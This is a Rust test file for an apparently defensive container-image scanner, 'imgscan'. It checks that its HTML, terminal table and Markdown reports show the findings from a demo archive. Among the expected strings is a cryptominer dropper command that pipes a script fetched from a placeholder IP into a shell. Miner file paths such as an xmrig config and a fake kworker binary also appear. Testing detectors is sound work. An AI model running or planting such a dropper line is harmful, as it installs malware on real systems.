//! The reports people look at, through the binary: the HTML page rendered
//! by a real browser (Debian's `chromium --headless`: the DOM it built and a
//! screenshot), the table that leads with what matters, and Markdown.

use crate::support::{demo_advisory_db, demo_docker_archive, fresh, have_tool, run};
use std::path::Path;
use std::process::Command;

/// `imgscan scan` of the demo archive with the demo advisories and `extra`.
fn scan_demo(extra: &[&str]) -> crate::support::Run {
    let db = demo_advisory_db();
    let archive = demo_docker_archive("reports-demo.docker.tar");
    let mut args = vec![
        "scan".to_string(),
        "--db".into(),
        db.display().to_string(),
        archive.display().to_string(),
    ];
    args.extend(extra.iter().map(|s| s.to_string()));
    run(&args)
}

/// Runs headless Chromium on `page` (with `#fragment` when not empty) with
/// `args`; its stdout and stderr.
fn chromium(page: &Path, fragment: &str, args: &[&str]) -> (String, String) {
    let profile = tempfile::tempdir().unwrap();
    let out = Command::new("chromium")
        .args([
            "--headless",
            "--no-sandbox",
            "--disable-gpu",
            "--no-first-run",
            "--disable-extensions",
            "--enable-logging=stderr",
            "--v=0",
        ])
        .arg(format!("--user-data-dir={}", profile.path().display()))
        .args(args)
        .arg(format!("file://{}{fragment}", page.display()))
        .output()
        .expect("chromium runs");
    assert!(
        out.status.success(),
        "chromium failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    (
        String::from_utf8_lossy(&out.stdout).into_owned(),
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

/// The number of distinct byte values in a PNG's decompressed image data:
/// a blank (one-colour) page has a handful, a rendered report many.
fn png_variety(png: &[u8]) -> usize {
    assert!(png.starts_with(b"\x89PNG\r\n\x1a\n"), "not a PNG");
    let mut at = 8;
    let mut data = Vec::new();
    while at + 8 <= png.len() {
        let len = u32::from_be_bytes(png[at..at + 4].try_into().unwrap()) as usize;
        let kind = &png[at + 4..at + 8];
        if kind == b"IDAT" {
            data.extend_from_slice(&png[at + 8..at + 8 + len]);
        }
        at += 12 + len;
    }
    let mut pixels = Vec::new();
    std::io::Read::read_to_end(&mut flate2::read::ZlibDecoder::new(&data[..]), &mut pixels)
        .unwrap();
    let mut seen = [false; 256];
    for byte in pixels {
        seen[byte as usize] = true;
    }
    seen.iter().filter(|s| **s).count()
}

#[test]
fn the_html_report_renders_in_a_real_browser() {
    if !have_tool("chromium") {
        return;
    }
    let page = fresh("demo-report.html");
    let done = scan_demo(&["-f", "html", "-o", page.to_str().unwrap()]);
    assert_eq!(done.code, 1, "the demo fails its gate: {}", done.stderr);
    assert!(done.stdout.is_empty(), "the page goes to the file only");
    let html = std::fs::read_to_string(&page).unwrap();
    assert!(html.len() < 2 << 20, "{} bytes", html.len());
    // The image's own URLs are text; nothing is loaded from anywhere.
    for external in ["<link", " src=", "srcset=", "@import", "url("] {
        assert!(!html.contains(external), "the page loads {external}");
    }

    let (dom, log) = chromium(&page, "", &["--dump-dom"]);
    assert!(
        dom.contains(r#"data-ready="1""#),
        "the page's script ran to its end: {log}"
    );
    // The page logs nothing: any console line is an error, a refused load
    // (the page's CSP forbids every external resource) or an exception.
    assert!(!log.contains(":CONSOLE"), "console output: {log}");
    for expected in [
        "FAILED",
        "Incidents (1)",
        "/usr/local/bin/kworkerd",
        "/etc/cron.d/kworker",
        "miner_dropper_script",
        "/tmp/payload.sh",
        "xmrig_config",
        "ssh.permit-root-login",
        "CVE-2024-6387",
        "MAL-2025-46974",
        "curl -fsSL http://203.0.113.7/init.sh | sh",
    ] {
        assert!(dom.contains(expected), "the rendered page lacks {expected}");
    }
    // The timeline: one clickable row per layer, layer 1 marked alarming.
    assert_eq!(dom.matches(r#"<tr class="layer"#).count(), 3, "{dom}");
    assert!(dom.contains(r#"<tr class="layer alarming" data-layer="1""#));

    // A link to one layer (#layer=0) shows only what it brought: the base's
    // vulnerabilities stay, layer 1's malware rows are hidden.
    let (filtered, _) = chromium(&page, "#layer=0", &["--dump-dom"]);
    assert!(filtered.contains("Showing layer 0 only."), "{filtered}");
    assert!(
        filtered.contains(r#"<tr data-layer="1" class="hidden">"#),
        "{filtered}"
    );
    assert!(filtered.contains(r#"<tr data-layer="0">"#), "{filtered}");
    assert!(
        !dom.contains(r#"class="hidden""#),
        "nothing hidden without a filter"
    );

    let shot = fresh("demo-report.png");
    chromium(
        &page,
        "",
        &[
            &format!("--screenshot={}", shot.display()),
            "--window-size=1280,1600",
            "--hide-scrollbars",
        ],
    );
    let png = std::fs::read(&shot).expect("chromium wrote the screenshot");
    assert!(
        png_variety(&png) > 32,
        "the screenshot is blank ({} distinct byte values)",
        png_variety(&png)
    );
}

#[test]
fn the_table_leads_with_the_verdict_and_what_matters() {
    let done = scan_demo(&[]);
    assert_eq!(done.code, 1, "{}", done.stderr);
    let table = &done.stdout;
    let at = |what: &str| {
        table
            .find(what)
            .unwrap_or_else(|| panic!("no {what} in:\n{table}"))
    };
    assert!(table.contains("Gate     FAILED: "), "{table}");
    assert!(at("Gate ") < at("Incidents (1)"));
    assert!(at("Incidents (1)") < at("Malware ("));
    assert!(at("Malware (") < at("Findings ("));
    assert!(at("Findings (") < at("Vulnerabilities (5)"));
    assert!(at("Vulnerabilities (5)") < at("LAYER "));
    assert!(!table.contains("Packages ("), "packages only when asked");
    assert!(table.contains("(--list-packages lists them)"), "{table}");
    // One row per file: the config matched by several rules is one row.
    assert_eq!(
        table.matches("/tmp/.xmr/config.json (deleted").count(),
        1,
        "{table}"
    );
    assert!(!table.contains('\x1b'), "no colour into a pipe");

    let listed = scan_demo(&["--list-packages"]);
    assert!(listed.stdout.contains("Packages ("), "{}", listed.stdout);
    assert!(listed.stdout.contains("openssh-server"));
}

#[test]
fn markdown_for_a_merge_request_comment() {
    let done = scan_demo(&["-f", "markdown"]);
    assert_eq!(done.code, 1, "{}", done.stderr);
    let md = &done.stdout;
    assert!(md.starts_with("## imgscan `"), "{md}");
    assert!(md.contains(": **FAILED**"), "{md}");
    assert!(md.contains("| | CRITICAL | HIGH | MEDIUM | LOW | UNKNOWN |"));
    assert!(md.contains("### Incidents (1)"));
    assert!(
        md.contains("| CRITICAL | `/tmp/payload.sh` (deleted later) | 1 |"),
        "{md}"
    );
    assert!(md.contains("`MAL-2025-46974`"));
    assert!(md.contains("<details><summary>Layers (3)</summary>"));
    // The dropper's pipe is escaped inside the table cell.
    assert!(md.contains(r"init.sh \| sh"), "{md}");
}
